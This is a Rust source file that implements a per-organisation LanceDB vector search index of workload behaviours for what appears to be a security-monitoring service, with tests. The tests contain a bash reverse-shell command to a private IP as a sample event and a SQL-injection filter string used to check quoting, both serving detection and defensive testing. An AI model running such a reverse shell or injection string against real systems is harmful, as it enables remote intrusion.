//! The search index: every distinct behaviour of an org's events (across all
//! its workloads, alerts included) as an embedding in LanceDB, one table per
//! org. Indexers append the behaviours a table does not hold yet (the ids it
//! holds are read once per process, then tracked), so a replay writes
//! nothing twice; an append costs what it writes, where a `merge_insert`
//! joined with the whole table. Two indexers racing may both append a
//! behaviour: searches keep one hit per behaviour. Every [`COMPACT_EVERY`]
//! writes a table's small files are compacted. The Search service finds the
//! behaviours nearest to a query and returns their events from ClickHouse.
//! Tables past `index_min_rows` get an IVF-SQ vector index: new rows are
//! added to it without training, and it is trained again only when the
//! table has grown fourfold.

use std::collections::{HashMap, HashSet};
use std::sync::Arc;

use arrow_array::types::Float32Type;
use arrow_array::{Array, FixedSizeListArray, Float32Array, Int64Array, RecordBatch, StringArray};
use arrow_schema::{ArrowError, DataType, Field, Schema, SchemaRef};
use futures::TryStreamExt;
use lancedb::index::Index;
use lancedb::query::{ExecutableQuery, QueryBase, Select};
use lancedb::table::{NewColumnTransform, OptimizeAction, OptimizeOptions};
use lancedb::{DistanceType, Table};
use outlier_common::featurize::{DIM, Embedding};
use outlier_common::lance::{Created, Tables};
use outlier_common::names::org_storage_name;
use thiserror::Error;
use tokio::sync::Mutex;
use xxhash_rust::xxh3::xxh3_64;

#[derive(Debug, Error)]
pub enum SearchIndexError {
    #[error("lancedb: {0}")]
    Lance(#[from] lancedb::Error),
    #[error("arrow: {0}")]
    Arrow(#[from] ArrowError),
    #[error("search table {0} has an unexpected schema")]
    Schema(String),
}

/// One distinct behaviour of a workload.
#[derive(Debug, Clone)]
pub struct Entry {
    pub workload: String,
    pub behaviour_key: u64,
    pub vector: Embedding,
    /// When `event_id` happened.
    pub last_seen_ns: u64,
    /// An event with this behaviour (the one written last): Search shows
    /// it, found in ClickHouse by its primary key.
    pub event_id: String,
}

/// A behaviour found by a search.
#[derive(Debug, Clone, PartialEq)]
pub struct Hit {
    pub workload: String,
    pub behaviour_key: u64,
    pub distance: f32,
    /// An event with this behaviour and its time (empty in tables written
    /// before examples were kept).
    pub event_id: String,
    pub ts_ns: u64,
}

/// Row id of a behaviour in its org's table: the same behaviour in two
/// workloads is two rows.
pub fn row_id(workload: &str, behaviour_key: u64) -> i64 {
    let mut buf = Vec::with_capacity(workload.len() + 9);
    buf.extend_from_slice(workload.as_bytes());
    buf.push(0);
    buf.extend_from_slice(&behaviour_key.to_le_bytes());
    xxh3_64(&buf) as i64
}

/// Writes to one table between compactions.
pub const COMPACT_EVERY: u32 = 50;
/// A table's vector index is trained again once the table has this many
/// times the rows it was trained on.
pub const RETRAIN_GROWTH: usize = 4;
/// Rows written since the last index update that make it worth one.
pub const APPEND_MIN_ROWS: usize = 1_000;
/// Index segments (the trained one and deltas) before deltas are merged.
pub const MAX_DELTAS: usize = 8;
/// Rows per IVF partition at training.
const ROWS_PER_PARTITION: usize = 1_000;

pub struct SearchIndex {
    tables: Tables,
    /// The row ids each written table holds, read on the first write.
    held: Mutex<HashMap<String, HashSet<i64>>>,
    /// Row count when the vector index was last trained, per table.
    indexed_at: Mutex<HashMap<String, usize>>,
    schema: SchemaRef,
}

/// Tables written before examples were kept gain the column (empty: Search
/// then looks their events up by behaviour).
fn add_event_id(
    t: &Table,
) -> std::pin::Pin<Box<dyn std::future::Future<Output = Result<(), lancedb::Error>> + Send + '_>> {
    Box::pin(async move {
        if t.schema().await?.field_with_name("event_id").is_err() {
            t.add_columns()
                .transform(NewColumnTransform::AllNulls(Arc::new(Schema::new(vec![
                    Field::new("event_id", DataType::Utf8, true),
                ]))))
                .execute()
                .await?;
            tracing::info!(table = t.name(), "search table migrated: event_id added");
        }
        Ok(())
    })
}

fn schema() -> SchemaRef {
    Arc::new(Schema::new(vec![
        Field::new("id", DataType::Int64, false),
        Field::new("workload", DataType::Utf8, false),
        Field::new("behaviour_key", DataType::Int64, false),
        Field::new(
            "vector",
            DataType::FixedSizeList(
                Arc::new(Field::new("item", DataType::Float32, true)),
                DIM as i32,
            ),
            false,
        ),
        Field::new("last_seen_ns", DataType::Int64, false),
        Field::new("event_id", DataType::Utf8, true),
    ]))
}

/// Quotes a string for a LanceDB (DataFusion SQL) filter.
fn sql_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

impl SearchIndex {
    pub async fn open(uri: &str) -> Result<Self, SearchIndexError> {
        Ok(Self {
            // Other indexers' writes to a table show within seconds.
            tables: Tables::new(
                lancedb::connect(uri)
                    .read_consistency_interval(std::time::Duration::from_secs(5))
                    .execute()
                    .await?,
                COMPACT_EVERY,
            )
            .with_migration(add_event_id),
            held: Mutex::new(HashMap::new()),
            indexed_at: Mutex::new(HashMap::new()),
            schema: schema(),
        })
    }

    async fn table(&self, name: &str) -> Result<Option<Table>, SearchIndexError> {
        Ok(self.tables.get(name).await?)
    }

    /// Writes the behaviours of one org that its table does not hold yet
    /// (one example event each: the first written).
    pub async fn upsert(&self, org: &str, entries: &[Entry]) -> Result<(), SearchIndexError> {
        if entries.is_empty() {
            return Ok(());
        }
        let name = org_storage_name(org);
        // One writer per table at a time in this process: the lock is held
        // across the write, so what `held` says stays true.
        let mut held = self.held.lock().await;
        let table = match self.table(&name).await? {
            Some(t) => t,
            None => {
                let mut seen = HashSet::new();
                let first: Vec<Entry> = entries
                    .iter()
                    .filter(|e| seen.insert(row_id(&e.workload, e.behaviour_key)))
                    .cloned()
                    .collect();
                match self.tables.create(&name, self.batch(&first)?).await? {
                    Created::New(_) => {
                        held.insert(name, seen);
                        return Ok(());
                    }
                    Created::Joined(t) => t,
                }
            }
        };
        if !held.contains_key(&name) {
            let ids = read_ids(&table).await?;
            held.insert(name.clone(), ids);
        }
        let ids = held.get_mut(&name).expect("inserted above");
        let mut fresh = HashSet::new();
        let new: Vec<Entry> = entries
            .iter()
            .filter(|e| {
                let id = row_id(&e.workload, e.behaviour_key);
                !ids.contains(&id) && fresh.insert(id)
            })
            .cloned()
            .collect();
        if new.is_empty() {
            return Ok(());
        }
        table.add(self.batch(&new)?).execute().await?;
        ids.extend(fresh);
        self.tables.wrote(&name, &table).await;
        Ok(())
    }

    fn batch(&self, entries: &[Entry]) -> Result<RecordBatch, SearchIndexError> {
        Ok(RecordBatch::try_new(
            self.schema.clone(),
            vec![
                Arc::new(Int64Array::from_iter_values(
                    entries.iter().map(|e| row_id(&e.workload, e.behaviour_key)),
                )),
                Arc::new(StringArray::from_iter_values(
                    entries.iter().map(|e| e.workload.as_str()),
                )),
                Arc::new(Int64Array::from_iter_values(
                    entries.iter().map(|e| e.behaviour_key as i64),
                )),
                Arc::new(
                    FixedSizeListArray::from_iter_primitive::<Float32Type, _, _>(
                        entries
                            .iter()
                            .map(|e| Some(e.vector.iter().copied().map(Some).collect::<Vec<_>>())),
                        DIM as i32,
                    ),
                ),
                Arc::new(Int64Array::from_iter_values(
                    entries.iter().map(|e| e.last_seen_ns as i64),
                )),
                Arc::new(StringArray::from_iter_values(
                    entries.iter().map(|e| e.event_id.as_str()),
                )),
            ],
        )?)
    }

    /// The behaviours of `org` nearest to `q` (optionally only in
    /// `workloads`), nearest first.
    pub async fn search(
        &self,
        org: &str,
        q: &Embedding,
        workloads: &[String],
        limit: usize,
    ) -> Result<Vec<Hit>, SearchIndexError> {
        let Some(table) = self.table(&org_storage_name(org)).await? else {
            return Ok(Vec::new());
        };
        let mut query = table
            .query()
            .nearest_to(q.as_slice())?
            .distance_type(DistanceType::Cosine)
            .select(Select::columns(&[
                "workload",
                "behaviour_key",
                "event_id",
                "last_seen_ns",
            ]))
            // Room for a behaviour two indexers both appended.
            .limit(limit.max(1) * 2)
            .refine_factor(4)
            .nprobes(24)?;
        if !workloads.is_empty() {
            let list = workloads
                .iter()
                .map(|w| sql_quote(w))
                .collect::<Vec<_>>()
                .join(", ");
            query = query.only_if(format!("workload IN ({list})"));
        }
        let batches: Vec<RecordBatch> = query.execute().await?.try_collect().await?;
        let mut hits = Vec::new();
        for b in &batches {
            let col = |n: &str| {
                b.column_by_name(n)
                    .ok_or_else(|| SearchIndexError::Schema(n.to_string()))
            };
            let wl = col("workload")?
                .as_any()
                .downcast_ref::<StringArray>()
                .ok_or_else(|| SearchIndexError::Schema("workload".into()))?;
            let key = col("behaviour_key")?
                .as_any()
                .downcast_ref::<Int64Array>()
                .ok_or_else(|| SearchIndexError::Schema("behaviour_key".into()))?;
            let dist = col("_distance")?
                .as_any()
                .downcast_ref::<Float32Array>()
                .ok_or_else(|| SearchIndexError::Schema("_distance".into()))?;
            let id = col("event_id")?
                .as_any()
                .downcast_ref::<StringArray>()
                .ok_or_else(|| SearchIndexError::Schema("event_id".into()))?;
            let seen = col("last_seen_ns")?
                .as_any()
                .downcast_ref::<Int64Array>()
                .ok_or_else(|| SearchIndexError::Schema("last_seen_ns".into()))?;
            for i in 0..b.num_rows() {
                hits.push(Hit {
                    workload: wl.value(i).to_string(),
                    behaviour_key: key.value(i) as u64,
                    distance: dist.value(i),
                    event_id: if id.is_null(i) {
                        String::new()
                    } else {
                        id.value(i).to_string()
                    },
                    ts_ns: seen.value(i) as u64,
                });
            }
        }
        hits.sort_by(|a, b| a.distance.total_cmp(&b.distance));
        let mut seen = HashSet::new();
        hits.retain(|h| seen.insert((h.workload.clone(), h.behaviour_key)));
        hits.truncate(limit);
        Ok(hits)
    }

    /// Keeps the vector index of every org table with at least `min_rows`
    /// rows current: trains it (IVF-SQ) when there is none, or once the
    /// table grew to [`RETRAIN_GROWTH`] times the rows it was trained on;
    /// otherwise adds the rows written since to it without training (each
    /// row to its nearest partition: a delta, merged into the other deltas
    /// once there are [`MAX_DELTAS`]). Training is what costs: k-means over
    /// a sample, `sample_rate × partitions` rows, a few seconds of one core
    /// at a million rows; rows not yet in the index are searched flat
    /// meanwhile. Returns the tables whose index was trained.
    pub async fn maintain(&self, min_rows: usize) -> Result<Vec<String>, SearchIndexError> {
        let mut trained = Vec::new();
        for name in self.tables.db().table_names().execute().await? {
            if !name.starts_with("org_") {
                continue;
            }
            let Some(table) = self.table(&name).await? else {
                continue;
            };
            let rows = table.count_rows(None).await?;
            let index = table
                .list_indices()
                .await?
                .into_iter()
                .find(|i| i.columns == ["vector"]);
            let stats = match &index {
                Some(i) => table.index_stats(&i.name).await?,
                None => None,
            };
            match (index, stats) {
                (Some(index), Some(stats)) => {
                    // Trained by an earlier run: count from what it covers.
                    let at = *self
                        .indexed_at
                        .lock()
                        .await
                        .entry(name.clone())
                        .or_insert(stats.num_indexed_rows.max(1));
                    if rows < at.saturating_mul(RETRAIN_GROWTH) {
                        if stats.num_unindexed_rows >= APPEND_MIN_ROWS {
                            let deltas = stats.num_indices.unwrap_or(1) as usize;
                            let mut options = if deltas >= MAX_DELTAS {
                                // Every delta and the new rows into one; the
                                // trained segment stays.
                                OptimizeOptions::merge(deltas - 1)
                            } else {
                                OptimizeOptions::append()
                            };
                            options.index_names = Some(vec![index.name.clone()]);
                            table.optimize(OptimizeAction::Index(options)).await?;
                            tracing::debug!(table = %name, rows = stats.num_unindexed_rows, deltas, "rows added to the search index");
                        }
                        continue;
                    }
                }
                _ if rows < min_rows => continue,
                _ => {}
            }
            let partitions = (rows / ROWS_PER_PARTITION).clamp(16, 4096) as u32;
            let t = std::time::Instant::now();
            let builder = lancedb::index::vector::IvfSqIndexBuilder::default()
                .distance_type(DistanceType::Cosine)
                .num_partitions(partitions)
                .sample_rate(64)
                .max_iterations(20);
            table
                .create_index(&["vector"], Index::IvfSq(builder))
                .replace(true)
                .execute()
                .await?;
            self.indexed_at.lock().await.insert(name.clone(), rows);
            tracing::info!(table = %name, rows, partitions, seconds = t.elapsed().as_secs_f64(), "search index trained");
            trained.push(name);
        }
        Ok(trained)
    }

    /// Number of behaviours indexed for `org`.
    pub async fn count(&self, org: &str) -> Result<usize, SearchIndexError> {
        match self.table(&org_storage_name(org)).await? {
            Some(t) => Ok(t.count_rows(None).await?),
            None => Ok(0),
        }
    }
}

/// Every row id a table holds.
async fn read_ids(table: &Table) -> Result<HashSet<i64>, SearchIndexError> {
    let batches: Vec<RecordBatch> = table
        .query()
        .select(Select::columns(&["id"]))
        .execute()
        .await?
        .try_collect()
        .await?;
    let mut ids = HashSet::new();
    for b in &batches {
        let col = b
            .column_by_name("id")
            .and_then(|c| c.as_any().downcast_ref::<Int64Array>())
            .ok_or_else(|| SearchIndexError::Schema("id".into()))?;
        ids.extend(col.values().iter().copied());
    }
    Ok(ids)
}

#[cfg(test)]
mod tests {
    use super::*;
    use outlier_common::featurize::{behaviour_key, embed, embed_text};
    use outlier_proto::{Event, Exec, event::Detail};

    fn ev(comm: &str, argv: &[&str]) -> Embedding {
        embed(&Event {
            comm: comm.into(),
            detail: Some(Detail::Exec(Exec {
                argv: argv.iter().map(|s| s.to_string()).collect(),
                ..Exec::default()
            })),
            ..Event::default()
        })
    }

    #[tokio::test]
    async fn finds_the_nearest_behaviour_per_org_and_workload() {
        let dir = tempfile::tempdir().unwrap();
        let idx = SearchIndex::open(dir.path().to_str().unwrap())
            .await
            .unwrap();
        let rev = ev(
            "bash",
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        );
        let nginx = ev("nginx", &["nginx: worker process"]);
        let entry = |wl: &str, v: Embedding| Entry {
            workload: wl.into(),
            behaviour_key: behaviour_key(&v),
            vector: v,
            last_seen_ns: 1,
            event_id: format!("{wl}-1"),
        };
        idx.upsert(
            "a",
            &[entry("web", rev), entry("web", nginx), entry("db", nginx)],
        )
        .await
        .unwrap();
        idx.upsert("a", &[entry("web", rev)]).await.unwrap();
        idx.upsert("b", &[entry("web", nginx)]).await.unwrap();
        assert_eq!(
            idx.count("a").await.unwrap(),
            3,
            "upsert writes a behaviour once"
        );

        let hits = idx
            .search(
                "a",
                &embed_text("reverse shell bash outbound connection"),
                &[],
                10,
            )
            .await
            .unwrap();
        assert_eq!(hits[0].behaviour_key, behaviour_key(&rev));
        assert_eq!(hits.len(), 3);
        assert_eq!((hits[0].event_id.as_str(), hits[0].ts_ns), ("web-1", 1));
        let hits = idx
            .search("a", &nginx, &["db".to_string()], 10)
            .await
            .unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].workload, "db");
        // Another org's table is never read; a quote cannot escape the filter.
        let hits = idx
            .search("b", &rev, &["web') OR ('1'='1".to_string()], 10)
            .await
            .unwrap();
        assert!(hits.is_empty());
        assert!(
            idx.search("nobody", &rev, &[], 10)
                .await
                .unwrap()
                .is_empty()
        );
    }

    #[tokio::test]
    async fn tables_without_examples_are_migrated() {
        let dir = tempfile::tempdir().unwrap();
        let uri = dir.path().to_str().unwrap();
        // A table as written before examples were kept.
        let nginx = ev("nginx", &["nginx: worker process"]);
        let old = Arc::new(Schema::new(schema().fields()[..5].to_vec()));
        let batch = RecordBatch::try_new(
            old,
            vec![
                Arc::new(Int64Array::from(vec![row_id("web", 7)])),
                Arc::new(StringArray::from(vec!["web"])),
                Arc::new(Int64Array::from(vec![7])),
                Arc::new(
                    FixedSizeListArray::from_iter_primitive::<Float32Type, _, _>(
                        [Some(nginx.iter().copied().map(Some).collect::<Vec<_>>())],
                        DIM as i32,
                    ),
                ),
                Arc::new(Int64Array::from(vec![5])),
            ],
        )
        .unwrap();
        let db = lancedb::connect(uri).execute().await.unwrap();
        db.create_table(org_storage_name("a"), batch)
            .execute()
            .await
            .unwrap();

        let idx = SearchIndex::open(uri).await.unwrap();
        let rev = ev("bash", &["bash", "-i"]);
        idx.upsert(
            "a",
            &[Entry {
                workload: "web".into(),
                behaviour_key: 8,
                vector: rev,
                last_seen_ns: 9,
                event_id: "e9".into(),
            }],
        )
        .await
        .unwrap();
        let hits = idx.search("a", &nginx, &[], 10).await.unwrap();
        let got: Vec<(u64, &str, u64)> = hits
            .iter()
            .map(|h| (h.behaviour_key, h.event_id.as_str(), h.ts_ns))
            .collect();
        assert_eq!(got, vec![(7, "", 5), (8, "e9", 9)]);
    }

    #[tokio::test]
    async fn appends_once_across_restarts_and_races_and_compacts() {
        let dir = tempfile::tempdir().unwrap();
        let uri = dir.path().to_str().unwrap();
        // Distinct words (the featurizer folds numbers together).
        let word = |mut i: usize| {
            let mut w = String::from("task");
            loop {
                w.push((b'a' + (i % 26) as u8) as char);
                i /= 26;
                if i == 0 {
                    return w;
                }
            }
        };
        let entry = |i: usize| {
            let v = ev("job", &["job", &word(i)]);
            Entry {
                workload: "ci".into(),
                behaviour_key: behaviour_key(&v),
                vector: v,
                last_seen_ns: i as u64,
                event_id: format!("e{i}"),
            }
        };
        let a = SearchIndex::open(uri).await.unwrap();
        a.upsert("o", &[entry(0), entry(1), entry(1)])
            .await
            .unwrap();
        // A racing indexer that has read the table's ids already...
        let b = SearchIndex::open(uri).await.unwrap();
        b.upsert("o", &[entry(0)]).await.unwrap();
        // ...then both append the same new behaviour.
        a.upsert("o", &[entry(2)]).await.unwrap();
        b.upsert("o", &[entry(2)]).await.unwrap();
        let d = SearchIndex::open(uri).await.unwrap();
        assert_eq!(
            d.count("o").await.unwrap(),
            4,
            "one duplicate from the race"
        );
        let hits = d.search("o", &entry(2).vector, &[], 10).await.unwrap();
        assert_eq!(hits.len(), 3, "one hit per behaviour: {hits:?}");
        assert_eq!(hits[0].event_id, "e2");

        // A restarted indexer re-writing what is there adds nothing, and
        // many small writes are compacted.
        let c = SearchIndex::open(uri).await.unwrap();
        c.upsert("o", &[entry(0), entry(1)]).await.unwrap();
        assert_eq!(c.count("o").await.unwrap(), 4);
        for i in 3..3 + COMPACT_EVERY as usize + 5 {
            c.upsert("o", &[entry(i)]).await.unwrap();
        }
        // (Some of those commands embed alike: count distinct behaviours.)
        let distinct: HashSet<u64> = (0..3 + COMPACT_EVERY as usize + 5)
            .map(|i| entry(i).behaviour_key)
            .collect();
        assert!(distinct.len() > COMPACT_EVERY as usize - 5);
        let fresh = SearchIndex::open(uri).await.unwrap();
        assert_eq!(fresh.count("o").await.unwrap(), distinct.len() + 1);
        assert_eq!(c.count("o").await.unwrap(), distinct.len() + 1);
        let t = c.table(&org_storage_name("o")).await.unwrap().unwrap();
        let frags = t.stats().await.unwrap().fragment_stats.num_fragments;
        assert!(frags < 5, "{frags} files after compaction");
        let hits = c.search("o", &entry(0).vector, &[], 1).await.unwrap();
        assert_eq!((hits[0].event_id.as_str(), hits[0].ts_ns), ("e0", 0));
    }

    /// `n` random unit vectors as behaviours of one workload.
    fn random_entries(from: usize, n: usize) -> Vec<Entry> {
        let mut x = 0x9E37_79B9_7F4A_7C15u64 ^ from as u64;
        (from..from + n)
            .map(|i| {
                let mut v = [0f32; DIM];
                for slot in &mut v {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    *slot = (x % 2001) as f32 / 1000.0 - 1.0;
                }
                let norm = v.iter().map(|a| a * a).sum::<f32>().sqrt();
                v.iter_mut().for_each(|a| *a /= norm);
                Entry {
                    workload: "w".into(),
                    behaviour_key: i as u64,
                    vector: v,
                    last_seen_ns: i as u64,
                    event_id: format!("e{i}"),
                }
            })
            .collect()
    }

    #[tokio::test]
    async fn the_vector_index_takes_new_rows_without_training_until_the_table_grew_fourfold() {
        let dir = tempfile::tempdir().unwrap();
        let uri = dir.path().to_str().unwrap();
        let idx = SearchIndex::open(uri).await.unwrap();
        async fn stats(idx: &SearchIndex) -> lancedb::index::IndexStatistics {
            let t = idx.table(&org_storage_name("o")).await.unwrap().unwrap();
            let i = t.list_indices().await.unwrap();
            t.index_stats(&i[0].name).await.unwrap().unwrap()
        }
        idx.upsert("o", &random_entries(0, 4_000)).await.unwrap();
        assert!(
            idx.maintain(5_000).await.unwrap().is_empty(),
            "below min_rows"
        );
        idx.upsert("o", &random_entries(4_000, 1_000))
            .await
            .unwrap();
        assert_eq!(idx.maintain(5_000).await.unwrap().len(), 1, "trained");
        assert_eq!(stats(&idx).await.num_unindexed_rows, 0);

        // New rows: added to the index, not trained again.
        let fresh = random_entries(5_000, 3_000);
        idx.upsert("o", &fresh).await.unwrap();
        assert_eq!(stats(&idx).await.num_unindexed_rows, 3_000);
        assert!(idx.maintain(5_000).await.unwrap().is_empty());
        let s = stats(&idx).await;
        assert_eq!((s.num_indexed_rows, s.num_unindexed_rows), (8_000, 0));
        for e in fresh.iter().step_by(500) {
            let hits = idx.search("o", &e.vector, &[], 1).await.unwrap();
            assert_eq!(
                hits[0].behaviour_key, e.behaviour_key,
                "found via the index"
            );
        }

        // A restarted indexer counts growth from what the index covers.
        let restarted = SearchIndex::open(uri).await.unwrap();
        restarted
            .upsert("o", &random_entries(8_000, 2_000))
            .await
            .unwrap();
        assert!(restarted.maintain(5_000).await.unwrap().is_empty());
        assert_eq!(stats(&restarted).await.num_unindexed_rows, 0);
        // ...and trains again at four times that.
        restarted
            .upsert("o", &random_entries(10_000, 22_000))
            .await
            .unwrap();
        assert_eq!(
            restarted.maintain(5_000).await.unwrap().len(),
            1,
            "retrained"
        );
        let s = stats(&restarted).await;
        assert_eq!((s.num_indexed_rows, s.num_unindexed_rows), (32_000, 0));
    }
}
